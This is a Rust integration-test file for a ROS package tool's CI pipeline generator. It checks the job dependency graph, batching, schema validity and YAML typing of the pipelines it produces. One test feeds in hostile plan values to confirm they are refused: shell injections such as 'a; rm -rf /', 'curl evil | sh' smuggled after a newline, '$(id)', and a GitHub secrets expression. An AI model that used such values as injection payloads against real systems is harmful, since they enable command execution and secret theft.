//! Integration tests of `rosdeb ci generate`: the files validate against the engines' published
//! schemas (check-jsonschema, installed by `cargo xtask ci`), parsed back by PyYAML (YAML 1.1,
//! as GitLab's Ruby parser) with each job's command split by Python's shlex, the job graph
//! respects every dependency of the plan, batching, determinism, hostile plans refused with
//! nothing written, and GitLab's limit of 50 `needs`.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

use crate::harness::{TempDir, rosdeb};

const TARGETS: [&str; 2] = ["ubuntu:focal", "debian:bookworm"];

/// A plan document (schema 1, as `rosdeb release --plan --json` writes it) of `packages`
/// (`name`, dependencies, sources known) for every target; levels and the critical path
/// computed here.
fn plan(packages: &[(&str, &[&str], bool)]) -> Value {
    let mut level: BTreeMap<&str, u32> = BTreeMap::new();
    while level.len() < packages.len() {
        for (name, deps, _) in packages {
            if !level.contains_key(name) && deps.iter().all(|d| level.contains_key(d)) {
                let l = deps.iter().map(|d| level[d] + 1).max().unwrap_or(0);
                level.insert(name, l);
            }
        }
    }
    let mut nodes = Vec::new();
    for target in TARGETS {
        for (name, deps, known) in packages {
            let mut depends: Vec<String> = deps.iter().map(|d| format!("{d}@{target}")).collect();
            depends.sort();
            nodes.push(json!({
                "id": format!("{name}@{target}"),
                "package": name,
                "repository": name,
                "version": "1.0.0-1",
                "target": target,
                "debian_package": format!("ros-noetic-{}", name.replace('_', "-")),
                "source": known.then(|| json!({
                    "kind": "sources", "location": format!("src/{name}"),
                    "reference": null, "tree": null
                })),
                "hash": known.then(|| "0".repeat(64)),
                "level": level[name],
                "depends": depends,
            }));
        }
    }
    let levels = level.values().max().map_or(0, |l| l + 1);
    json!({
        "schema": 1,
        "distro": "noetic",
        "distro_file": "rosdistro/noetic/distribution.yaml",
        "rosdep": ["rosdep/base.yaml", "rosdep/python.yaml"],
        "sources": ["src"],
        "targets": TARGETS,
        "nodes": nodes,
        "levels": levels,
        "critical_path": [],
        "unknown": packages.iter().filter(|p| !p.2).map(|p| p.0).collect::<Vec<_>>(),
    })
}

/// A diamond (b and c on a, d on both), a chain on top (f on d) and a package of unknown
/// sources (e), for both targets.
fn diamond() -> Value {
    plan(&[
        ("pkg_a", &[], true),
        ("pkg_b", &["pkg_a"], true),
        ("pkg_c", &["pkg_a"], true),
        ("pkg_d", &["pkg_b", "pkg_c"], true),
        ("pkg_e", &[], false),
        ("pkg_f", &["pkg_d"], true),
    ])
}

/// 60 packages at level 0 and one on all of them: with one node per job, 60 needs.
fn wide() -> Value {
    let names: Vec<String> = (0..60).map(|i| format!("leaf_{i:02}")).collect();
    let leaves: Vec<&str> = names.iter().map(String::as_str).collect();
    let mut packages: Vec<(&str, &[&str], bool)> =
        leaves.iter().map(|n| (*n, &[][..], true)).collect();
    packages.push(("top", &leaves, true));
    plan(&packages)
}

fn write_plan(dir: &Path, plan: &Value) -> PathBuf {
    let path = dir.join("plan.json");
    fs_err::write(&path, serde_json::to_vec_pretty(plan).unwrap()).unwrap();
    path
}

fn generate(plan: &Path, args: &[&str]) -> Output {
    Command::new(rosdeb()).args(["ci", "generate", "--plan"]).arg(plan).args(args).output().unwrap()
}

fn pipeline(plan: &Path, args: &[&str]) -> String {
    let out = generate(plan, args);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

/// check-jsonschema from `target/tools/` (`cargo xtask ci` installs it from PyPI).
fn check_jsonschema() -> PathBuf {
    let target = std::env::var_os("CARGO_TARGET_DIR")
        .map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target"), PathBuf::from);
    let tool = target.join("tools/bin/check-jsonschema");
    assert!(
        tool.exists(),
        "check-jsonschema is missing from {}: `cargo xtask ci` installs it (PyPI \
         check-jsonschema in target/tools/check-jsonschema-venv)",
        tool.display()
    );
    tool
}

/// Validates `text` against the engine's schema as shipped by check-jsonschema.
fn validate(dir: &Path, engine: &str, text: &str) {
    let (schema, file) = match engine {
        "--github-actions" => ("vendor.github-workflows", dir.join("workflow.yml")),
        _ => ("vendor.gitlab-ci", dir.join(".gitlab-ci.yml")),
    };
    fs_err::write(&file, text).unwrap();
    let out = Command::new(check_jsonschema())
        .args(["--builtin-schema", schema])
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{engine}: the file does not validate against {schema}:\n{}{}\n{text}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// One job as PyYAML and shlex read it back.
#[derive(Debug)]
struct Job {
    /// The job's `needs` (`None`: GitLab job without `needs:`, ordered by stage).
    needs: Option<Vec<String>>,
    /// GitLab's stage.
    stage: Option<String>,
    /// The argv of its `rosdeb release` command (build jobs).
    argv: Option<Vec<String>>,
    /// GitHub: the artifacts it downloads by name, and the one it uploads.
    downloads: Vec<String>,
    upload: Option<String>,
    /// GitLab: `needs` entries without `artifacts: true`.
    needs_without_artifacts: usize,
}

/// Parses a generated file with PyYAML and each job's commands with Python's shlex.
fn parse(text: &str) -> (Value, BTreeMap<String, Job>) {
    const SCRIPT: &str = r#"
import json, shlex, sys, yaml
doc = yaml.safe_load(sys.stdin)
out = {}
jobs = doc["jobs"] if "jobs" in doc else {k: v for k, v in doc.items()
        if isinstance(v, dict) and "script" in v}
for name, job in jobs.items():
    lines = [s.get("run") for s in job.get("steps", [])] + list(job.get("script", []))
    argv = [shlex.split(l) for l in lines if l and l.startswith("rosdeb release")]
    needs = job.get("needs")
    if isinstance(needs, list):
        needs = [n if isinstance(n, str) else n["job"] for n in needs]
    out[name] = {
        "needs": needs,
        "needs_without_artifacts": sum(1 for n in job.get("needs") or []
                                       if isinstance(n, dict) and n.get("artifacts") is not True),
        "stage": job.get("stage"),
        "argv": argv[0] if argv else None,
        "argvs": len(argv),
        "downloads": [s["with"]["name"] for s in job.get("steps", [])
                      if s.get("uses", "").startswith("actions/download-artifact")
                      and "name" in s.get("with", {})],
        "upload": next((s["with"]["name"] for s in job.get("steps", [])
                        if s.get("uses", "").startswith("actions/upload-artifact")), None),
    }
print(json.dumps({"doc": doc, "jobs": out}))
"#;
    let mut child = Command::new("/usr/bin/python3")
        .args(["-c", SCRIPT])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "PyYAML: {}\n{text}", String::from_utf8_lossy(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let strings = |v: &Value| -> Vec<String> {
        v.as_array().unwrap().iter().map(|s| s.as_str().unwrap().to_owned()).collect()
    };
    let jobs = v["jobs"]
        .as_object()
        .unwrap()
        .iter()
        .map(|(name, j)| {
            assert!(j["argvs"].as_u64().unwrap() <= 1, "{name}: more than one rosdeb release");
            let job = Job {
                needs: (!j["needs"].is_null()).then(|| strings(&j["needs"])),
                stage: j["stage"].as_str().map(str::to_owned),
                argv: (!j["argv"].is_null()).then(|| strings(&j["argv"])),
                downloads: strings(&j["downloads"]),
                upload: j["upload"].as_str().map(str::to_owned),
                needs_without_artifacts: j["needs_without_artifacts"].as_u64().unwrap() as usize,
            };
            (name.clone(), job)
        })
        .collect();
    (v["doc"].clone(), jobs)
}

/// The packages and target a build job's argv builds, after checking the shared arguments.
fn built_by(plan: &Value, argv: &[String]) -> (String, Vec<String>) {
    let mut expected: Vec<String> = ["rosdeb", "release", "--distro"].map(str::to_owned).into();
    expected.push(plan["distro"].as_str().unwrap().to_owned());
    if let Some(f) = plan["distro_file"].as_str() {
        expected.extend(["--distro-file".to_owned(), f.to_owned()]);
    }
    for (flag, field) in [("--rosdep", "rosdep"), ("--sources", "sources")] {
        for v in plan[field].as_array().unwrap() {
            expected.extend([flag.to_owned(), v.as_str().unwrap().to_owned()]);
        }
    }
    assert_eq!(argv[..expected.len()], expected[..], "{argv:?}");
    let rest = &argv[expected.len()..];
    assert_eq!(rest[0], "--os");
    assert_eq!(rest[2..6], ["--no-deps", "--no-publish", "--work", "rosdeb-work"]);
    assert!(rest.len() > 6, "no package in {argv:?}");
    (rest[1].clone(), rest[6..].to_vec())
}

/// Checks that every node of `plan` is built by exactly one job, after every job that builds
/// one of its dependencies (through the transitive closure of `needs`, and on GitLab through
/// stage order for a job without `needs`), that artifacts follow `needs`, and that the
/// publish job comes after every build job. Returns node id -> job.
fn check_graph(
    plan: &Value,
    jobs: &BTreeMap<String, Job>,
    gitlab: bool,
) -> BTreeMap<String, String> {
    let mut job_of = BTreeMap::new();
    for (name, job) in jobs {
        let Some(argv) = &job.argv else { continue };
        let (target, packages) = built_by(plan, argv);
        for p in packages {
            let id = format!("{p}@{target}");
            assert!(job_of.insert(id.clone(), name.clone()).is_none(), "{id} built twice");
        }
    }
    let nodes = plan["nodes"].as_array().unwrap();
    assert_eq!(job_of.len(), nodes.len(), "every node built once: {job_of:?}");

    let stages: Vec<String> = if gitlab {
        let mut s: Vec<String> = jobs.values().filter_map(|j| j.stage.clone()).collect();
        s.sort_by_key(|s| s.strip_prefix("build-l").map_or(u32::MAX, |l| l.parse().unwrap()));
        s.dedup();
        s
    } else {
        Vec::new()
    };
    let stage_index = |j: &Job| stages.iter().position(|s| Some(s) == j.stage.as_ref()).unwrap();
    // Everything that has finished before `name` starts.
    let before = |name: &str| -> BTreeSet<String> {
        let mut seen = BTreeSet::new();
        let mut todo = vec![name.to_owned()];
        while let Some(n) = todo.pop() {
            let job = &jobs[&n];
            let direct: Vec<String> = match &job.needs {
                Some(needs) => needs.clone(),
                None if gitlab => jobs
                    .iter()
                    .filter(|(_, j)| stage_index(j) < stage_index(job))
                    .map(|(k, _)| k.clone())
                    .collect(),
                None => Vec::new(),
            };
            for d in direct {
                assert!(jobs.contains_key(&d), "{n} needs {d}, which is no job");
                if seen.insert(d.clone()) {
                    todo.push(d);
                }
            }
        }
        seen
    };
    for node in nodes {
        let job = &job_of[node["id"].as_str().unwrap()];
        let done = before(job);
        for dep in node["depends"].as_array().unwrap() {
            let dep_job = &job_of[dep.as_str().unwrap()];
            assert!(done.contains(dep_job), "{job} may start before {dep_job} ({dep})");
        }
    }
    let builds: BTreeSet<String> = job_of.values().cloned().collect();
    assert_eq!(before("publish"), builds, "publish comes after every build job");
    for (name, job) in jobs {
        if gitlab {
            assert_eq!(job.needs_without_artifacts, 0, "{name}: needs without artifacts");
        } else if job.argv.is_some() {
            let mut downloads = job.downloads.clone();
            downloads.sort();
            let mut needs = job.needs.clone().unwrap_or_default();
            needs.sort();
            assert_eq!(downloads, needs, "{name} downloads the artifacts of the jobs it needs");
            assert_eq!(job.upload.as_deref(), Some(name.as_str()), "{name} uploads its debs");
        }
    }
    job_of
}

#[test]
fn generated_pipelines_validate_against_the_engine_schemas() {
    let tmp = TempDir::new("ci-schema");
    for (label, plan) in [("diamond", diamond()), ("wide", wide())] {
        let dir = tmp.path().join(label);
        fs_err::create_dir_all(&dir).unwrap();
        let path = write_plan(&dir, &plan);
        for engine in ["--github-actions", "--gitlab-ci"] {
            for batch in ["1", "2"] {
                validate(&dir, engine, &pipeline(&path, &[engine, "--batch", batch]));
            }
        }
    }
}

#[test]
fn jobs_run_after_the_jobs_of_their_dependencies() {
    let tmp = TempDir::new("ci-graph");
    let plan = diamond();
    let path = write_plan(tmp.path(), &plan);
    for engine in ["--github-actions", "--gitlab-ci"] {
        for batch in ["1", "2", "10"] {
            let (_, jobs) = parse(&pipeline(&path, &[engine, "--batch", batch]));
            check_graph(&plan, &jobs, engine == "--gitlab-ci");
        }
    }
    // One node per job: each job needs exactly the jobs of its node's dependencies.
    let (_, jobs) = parse(&pipeline(&path, &["--github-actions"]));
    let job_of = check_graph(&plan, &jobs, false);
    for node in plan["nodes"].as_array().unwrap() {
        let job = &jobs[&job_of[node["id"].as_str().unwrap()]];
        let mut wanted: Vec<&String> = node["depends"]
            .as_array()
            .unwrap()
            .iter()
            .map(|d| &job_of[d.as_str().unwrap()])
            .collect();
        wanted.sort();
        let mut needs: Vec<&String> = job.needs.iter().flatten().collect();
        needs.sort();
        assert_eq!(needs, wanted, "{}", node["id"]);
    }
}

#[test]
fn batches_hold_nodes_of_one_target_and_level() {
    let tmp = TempDir::new("ci-batch");
    let plan = diamond();
    let path = write_plan(tmp.path(), &plan);
    let level: BTreeMap<&str, u64> = plan["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| (n["id"].as_str().unwrap(), n["level"].as_u64().unwrap()))
        .collect();
    for batch in [1usize, 2, 3] {
        let (_, jobs) = parse(&pipeline(&path, &["--gitlab-ci", "--batch", &batch.to_string()]));
        let job_of = check_graph(&plan, &jobs, true);
        let mut members: BTreeMap<&String, Vec<&str>> = BTreeMap::new();
        for (id, job) in &job_of {
            members.entry(job).or_default().push(id);
        }
        // Per (target, level): how many nodes, so how many jobs.
        let mut groups: BTreeMap<(String, u64), usize> = BTreeMap::new();
        for (job, ids) in &members {
            assert!(ids.len() <= batch, "{job} holds {ids:?}, more than {batch}");
            let key = |id: &str| (id.split_once('@').unwrap().1.to_owned(), level[id]);
            assert!(ids.iter().all(|id| key(id) == key(ids[0])), "{job} mixes {ids:?}");
            *groups.entry(key(ids[0])).or_default() += ids.len();
        }
        let wanted: usize = groups.values().map(|n| n.div_ceil(batch)).sum();
        assert_eq!(members.len(), wanted, "batch {batch}: {members:?}");
    }
}

#[test]
fn same_plan_same_bytes() {
    let tmp = TempDir::new("ci-determinism");
    let path = write_plan(tmp.path(), &diamond());
    for engine in ["--github-actions", "--gitlab-ci"] {
        let first = pipeline(&path, &[engine, "--batch", "2"]);
        assert_eq!(first, pipeline(&path, &[engine, "--batch", "2"]), "{engine}");
        let out = tmp.path().join("pipeline.yml");
        let written = generate(&path, &[engine, "--batch", "2", "--out", out.to_str().unwrap()]);
        assert!(written.status.success());
        assert!(written.stdout.is_empty(), "with --out nothing on stdout");
        assert_eq!(fs_err::read_to_string(&out).unwrap(), first, "{engine}: --out");
        let mode = fs_err::metadata(&out).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o644, "{engine}: a file for the repository, readable by all");
        // `--plan -` reads standard input.
        let mut child = Command::new(rosdeb())
            .args(["ci", "generate", engine, "--batch", "2", "--plan", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(&fs_err::read(&path).unwrap()).unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success());
        assert_eq!(String::from_utf8(out.stdout).unwrap(), first, "{engine}: --plan -");
    }
}

#[test]
fn summary_on_stderr_counts_jobs_levels_and_unknown_sources() {
    let tmp = TempDir::new("ci-summary");
    let path = write_plan(tmp.path(), &diamond());
    let out = generate(&path, &["--github-actions"]);
    let stderr = String::from_utf8(out.stderr).unwrap();
    // 6 packages x 2 targets, one per job; levels a 0, b c e 1... e is 0: 4 levels.
    assert_eq!(
        stderr.trim_end(),
        "ci generate: 13 jobs (12 build + publish), 12 nodes, 4 levels, critical path 4 nodes, \
         2 nodes with unknown sources"
    );
    // A path the runner's checkout cannot have is pointed out.
    let mut plan = diamond();
    plan["sources"] = json!(["src", "/home/me/src"]);
    let path = write_plan(tmp.path(), &plan);
    let out = generate(&path, &["--gitlab-ci"]);
    assert!(out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("warning: `/home/me/src` is an absolute path"), "{stderr}");
    assert!(!stderr.contains("`src`"), "{stderr}");
}

#[test]
fn hostile_plans_are_refused_and_nothing_is_written() {
    let tmp = TempDir::new("ci-hostile");
    let node0 = |p: &mut Value| p["nodes"][0].clone();
    type Edit = Box<dyn Fn(&mut Value)>;
    let cases: Vec<(&str, Edit, &str)> = vec![
        (
            "shell in a package name",
            Box::new(|p| {
                p["nodes"][0]["package"] = json!("a; rm -rf /");
                p["nodes"][0]["id"] = json!("a; rm -rf /@ubuntu:focal");
            }),
            "node `a; rm -rf /@ubuntu:focal`: package name",
        ),
        (
            "GitHub expression in a package name",
            Box::new(|p| {
                p["nodes"][0]["package"] = json!("${{ secrets.X }}");
                p["nodes"][0]["id"] = json!("${{ secrets.X }}@ubuntu:focal");
            }),
            "node `${{ secrets.X }}@ubuntu:focal`",
        ),
        (
            "GitHub expression in a sources folder",
            Box::new(|p| p["sources"] = json!(["src", "${{ secrets.X }}"])),
            "sources[1] `${{ secrets.X }}`",
        ),
        (
            "newline in a rosdep file",
            Box::new(|p| p["rosdep"] = json!(["base.yaml\ncurl evil | sh"])),
            "rosdep[0] `base.yaml\\ncurl evil | sh`: holds a newline",
        ),
        (
            "quote in the distribution file",
            Box::new(|p| p["distro_file"] = json!("d.yaml' ; id ; '")),
            "distro_file[0]",
        ),
        (
            "an option as a path",
            Box::new(|p| p["sources"] = json!(["--help"])),
            "sources[0] `--help`: starts with `-`",
        ),
        (
            "bad distribution",
            Box::new(|p| p["distro"] = json!("noetic && id")),
            "distro `noetic && id`",
        ),
        (
            "shell in a target",
            Box::new(|p| {
                p["targets"][0] = json!("ubuntu:focal$(id)");
            }),
            "target `ubuntu:focal$(id)`",
        ),
        (
            "newline in a target",
            Box::new(|p| {
                p["targets"] = json!(["ubuntu:focal\nx", "debian:bookworm"]);
                for n in p["nodes"].as_array_mut().unwrap() {
                    if n["target"] == "ubuntu:focal" {
                        n["target"] = json!("ubuntu:focal\nx");
                    }
                }
            }),
            "target `ubuntu:focal\\nx`",
        ),
        (
            "id that is not package@target",
            Box::new(|p| p["nodes"][0]["id"] = json!("other@ubuntu:focal")),
            "node `other@ubuntu:focal`: the id is not `pkg_a@ubuntu:focal`",
        ),
        (
            "dependency on no node",
            Box::new(|p| p["nodes"][0]["depends"] = json!(["ghost@ubuntu:focal"])),
            "node `pkg_a@ubuntu:focal`: depends on `ghost@ubuntu:focal`",
        ),
        (
            "dependency on another target",
            Box::new(|p| {
                let last = p["nodes"].as_array().unwrap().len() - 1;
                p["nodes"][last]["depends"] = json!(["pkg_d@ubuntu:focal"]);
            }),
            "a node of another target",
        ),
        (
            "level that hides a cycle",
            Box::new(|p| {
                // pkg_a on pkg_f: a cycle; no level can be consistent.
                p["nodes"][0]["depends"] = json!(["pkg_f@ubuntu:focal"]);
            }),
            "node `pkg_a@ubuntu:focal`: level 0 where its dependencies make it 4",
        ),
        (
            "node listed twice",
            Box::new(move |p| {
                let n = node0(p);
                p["nodes"].as_array_mut().unwrap().push(n);
            }),
            "node `pkg_a@ubuntu:focal`: listed twice",
        ),
    ];
    for (label, edit, wanted) in cases {
        let mut plan = diamond();
        edit(&mut plan);
        let path = write_plan(tmp.path(), &plan);
        for engine in ["--github-actions", "--gitlab-ci"] {
            // A new file is not made; an existing one is left as it was.
            let out_file = tmp.path().join("out.yml");
            let _ = fs_err::remove_file(&out_file);
            if engine == "--gitlab-ci" {
                fs_err::write(&out_file, "previous").unwrap();
            }
            let out = generate(&path, &[engine, "--out", out_file.to_str().unwrap()]);
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert_eq!(out.status.code(), Some(1), "{label}: {stderr}");
            assert!(stderr.contains(wanted), "{label}: wanted `{wanted}` in:\n{stderr}");
            assert!(stderr.contains("plan.json"), "{label}: the file is named:\n{stderr}");
            assert!(stderr.contains("hint:"), "{label}: {stderr}");
            if engine == "--gitlab-ci" {
                assert_eq!(fs_err::read_to_string(&out_file).unwrap(), "previous", "{label}");
            } else {
                assert!(!out_file.exists(), "{label}: nothing written");
            }
            let entries = fs_err::read_dir(tmp.path()).unwrap().count();
            assert_eq!(
                entries,
                1 + usize::from(engine == "--gitlab-ci"),
                "{label}: no temporary left"
            );
            let out = generate(&path, &[engine]);
            assert!(out.stdout.is_empty(), "{label}: nothing on stdout");
        }
    }
    // Not JSON of a plan: file:line:col.
    let path = tmp.path().join("plan.json");
    fs_err::write(&path, "{\"schema\": 1,\n  \"distro\": 3}").unwrap();
    let out = generate(&path, &["--gitlab-ci"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("plan.json:2:"), "{out:?}");
    // A multi-line or expression-carrying --install-command is a bad invocation.
    let path = write_plan(tmp.path(), &diamond());
    for bad in ["a\nb", "echo ${{ secrets.X }}"] {
        let out = generate(&path, &["--github-actions", "--install-command", bad]);
        assert_eq!(out.status.code(), Some(2), "{out:?}");
        assert!(out.stdout.is_empty());
    }
}

#[test]
fn shell_values_reach_the_command_as_one_word() {
    // Spaces and shell punctuation that are not refused are quoted: the shell reads them back
    // as the plan's words.
    let tmp = TempDir::new("ci-quote");
    let mut plan = diamond();
    plan["sources"] = json!(["my sources/with space", "a&b|c;d>e*{f}"]);
    let path = write_plan(tmp.path(), &plan);
    for engine in ["--github-actions", "--gitlab-ci"] {
        let text = pipeline(&path, &[engine]);
        let (_, jobs) = parse(&text);
        check_graph(&plan, &jobs, engine == "--gitlab-ci");
        validate(tmp.path(), engine, &text);
    }
}

#[test]
fn gitlab_jobs_needing_more_than_50_fall_back_to_stage_ordering() {
    let tmp = TempDir::new("ci-wide");
    let plan = wide();
    let path = write_plan(tmp.path(), &plan);
    let out = generate(&path, &["--gitlab-ci"]);
    assert!(out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    // top@focal and top@bookworm each need 60 jobs, publish 122.
    assert!(stderr.contains("3 jobs ordered by stage (more than 50 needs)"), "{stderr}");
    let text = String::from_utf8(out.stdout).unwrap();
    let (doc, jobs) = parse(&text);
    let job_of = check_graph(&plan, &jobs, true);
    for target in TARGETS {
        let top = &jobs[&job_of[&format!("top@{target}")]];
        assert!(top.needs.is_none(), "more than 50 needs: stage ordering");
        assert_eq!(top.stage.as_deref(), Some("build-l1"));
    }
    assert!(jobs["publish"].needs.is_none());
    assert_eq!(doc["stages"], json!(["build-l0", "build-l1", "publish"]));
    for job in jobs.values() {
        assert!(job.needs.as_ref().is_none_or(|n| n.len() <= 50));
    }
    validate(tmp.path(), "--gitlab-ci", &text);

    // Batches of 2: 30 jobs below, each top needs 30: listed.
    let (_, jobs) = parse(&pipeline(&path, &["--gitlab-ci", "--batch", "2"]));
    let job_of = check_graph(&plan, &jobs, true);
    let top = &jobs[&job_of["top@ubuntu:focal"]];
    assert_eq!(top.needs.as_ref().map(Vec::len), Some(30));
}

#[test]
fn values_that_read_as_other_types_stay_strings() {
    // Package names and settings that YAML 1.1 (GitLab's parser, PyYAML) would read as
    // booleans, null or numbers, were they written bare.
    let tmp = TempDir::new("ci-types");
    let plan = plan(&[
        ("yes", &[], true),
        ("on", &["yes"], true),
        ("null", &["on"], true),
        ("true", &[], true),
        ("no", &["true", "null"], true),
    ]);
    let path = write_plan(tmp.path(), &plan);
    let settings = ["--runs-on", "yes", "--image", "1.0", "--install-command", "null"];
    for engine in ["--github-actions", "--gitlab-ci"] {
        let text = pipeline(&path, &[&[engine][..], &settings].concat());
        let (doc, jobs) = parse(&text);
        check_graph(&plan, &jobs, engine == "--gitlab-ci");
        if engine == "--github-actions" {
            assert_eq!(doc["jobs"]["publish"]["runs-on"], "yes", "{text}");
            assert_eq!(doc["env"]["ROSDEB_INSTALL"], "null", "{text}");
            assert!(doc["on"].is_object(), "the `on` key is the string on: {text}");
        } else {
            assert_eq!(doc["default"]["image"], "1.0", "{text}");
            assert_eq!(doc["variables"]["ROSDEB_INSTALL"], "null", "{text}");
        }
        validate(tmp.path(), engine, &text);
    }
}

/// The real ROS 1 package.xml files (`fixtures/data/manifests` also holds ROS 2 packages of
/// the same names), as docs/ci-pipelines.md lists them.
const MANIFESTS: &str = "fixtures/data/manifests";
const NOETIC_SOURCES: [&str; 16] = [
    "ros__catkin",
    "ros__common_msgs",
    "ros__gencpp",
    "ros__genmsg",
    "ros__genpy",
    "ros__geometry2",
    "ros__ros",
    "ros__ros_comm",
    "ros__ros_comm_msgs",
    "ros__ros_tutorials",
    "ros__rospack",
    "ros__std_msgs",
    "ros-planning__navigation",
    "ros-visualization__rviz",
    "ros-infrastructure__catkin_pkg",
    "ros-infrastructure__rospkg",
];

#[test]
fn a_real_noetic_plan_becomes_valid_pipelines() {
    // `rosdeb release --plan --json` on the bundled noetic distribution and rosdep rules and the
    // real noetic package.xml files, run from the repository root with relative paths as in a
    // checkout (the commands of docs/ci-pipelines.md), piped into `ci generate --plan -`.
    let tmp = TempDir::new("ci-noetic");
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let release = Command::new(rosdeb())
        .args(["release", "--plan", "--json", "--offline", "--distro", "noetic"])
        .args(["--distro-file", "fixtures/data/rosdistro/noetic/distribution.yaml"])
        .args(["--rosdep", "fixtures/data/rosdistro/rosdep/base.yaml"])
        .args(["--rosdep", "fixtures/data/rosdistro/rosdep/python.yaml"])
        .args(["--os", "ubuntu:focal", "--os", "debian:bookworm"])
        .args(
            NOETIC_SOURCES
                .iter()
                .flat_map(|d| ["--sources".to_owned(), format!("{MANIFESTS}/{d}")]),
        )
        .current_dir(&root)
        .env("HOME", tmp.path())
        .env("XDG_CACHE_HOME", tmp.path().join("cache"))
        .output()
        .unwrap();
    assert!(release.status.success(), "{}", String::from_utf8_lossy(&release.stderr));
    let plan: Value = serde_json::from_slice(&release.stdout).unwrap();
    let nodes = plan["nodes"].as_array().unwrap();
    assert!(nodes.iter().any(|n| !n["depends"].as_array().unwrap().is_empty()), "some edges");
    // The doc's `--batch 25` fits GitHub's limits: no warning.
    let docs = fs_err::read_to_string(root.join("docs/ci-pipelines.md")).unwrap();
    assert!(docs.contains("--batch 25 --out .github/workflows/release.yml"));
    for engine in ["--github-actions", "--gitlab-ci"] {
        let mut child = Command::new(rosdeb())
            .args(["ci", "generate", engine, "--batch", "25", "--plan", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(&release.stdout).unwrap();
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert!(out.status.success(), "{stderr}");
        // The summary agrees with the plan's own numbers.
        let unknown = nodes.iter().filter(|n| n["source"].is_null()).count();
        let summary = format!(
            "{} nodes, {} levels, critical path {} nodes, {unknown} nodes with unknown sources",
            nodes.len(),
            plan["levels"],
            plan["critical_path"].as_array().unwrap().len()
        );
        assert!(stderr.contains(&summary), "{summary}\n{stderr}");
        assert!(!stderr.contains("warning"), "{stderr}");
        let text = String::from_utf8(out.stdout).unwrap();
        let (_, jobs) = parse(&text);
        check_graph(&plan, &jobs, engine == "--gitlab-ci");
        validate(tmp.path(), engine, &text);
    }
}
